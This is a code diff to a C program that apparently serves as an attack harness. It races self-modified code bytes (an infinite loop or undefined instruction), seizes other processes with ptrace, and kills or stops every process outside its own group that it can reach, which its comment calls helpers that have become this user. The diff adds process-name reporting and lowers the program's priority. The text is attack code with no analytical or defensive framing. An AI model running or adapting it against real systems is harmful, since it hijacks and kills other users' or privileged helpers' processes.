@@ -23,7 +23,7 @@ static void *change(void *unused)
     (void)unused;
     for (;;) {
         while (!asleep)
-            sched_yield();
+            usleep(10);
         usleep(30);
         *(volatile uint16_t *)(CODE + CALL) = *how == 'l' ? 0xfeeb : 0x0b0f;
         asleep = 0;
@@ -73,6 +73,16 @@ static void disturb(pid_t child)
     }
 }
 
+static void report(pid_t pid)
+{
+    char path[64], name[64] = "";
+    FILE *comm;
+
+    snprintf(path, sizeof path, "/proc/%d/comm", pid);
+    if ((comm = fopen(path, "r")) && fgets(name, sizeof name, comm))
+        printf("seized %d, of group %d: %s", pid, getpgid(pid), name);
+}
+
 /* What is neither one of our group nor of another user's: helpers that have become this user. */
 static void hunt(void)
 {
@@ -87,7 +97,7 @@ static void hunt(void)
             if (pid <= 1 || getpgid(pid) == getpgrp())
                 continue;
             if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
-                printf("seized %d\n", pid);
+                report(pid);
             kill(pid, round % 2 ? SIGKILL : SIGSTOP);
         }
     }
@@ -98,6 +108,8 @@ int main(int argc, char **argv)
     require(argc == 4, "arguments");
     how = argv[2];
     setbuf(stdout, NULL);
+    /* It is the device that is attacked, not the processor. */
+    nice(19);
     for (int i = atoi(argv[3]); i > 0; i--) {
         pid_t child = fork();
 
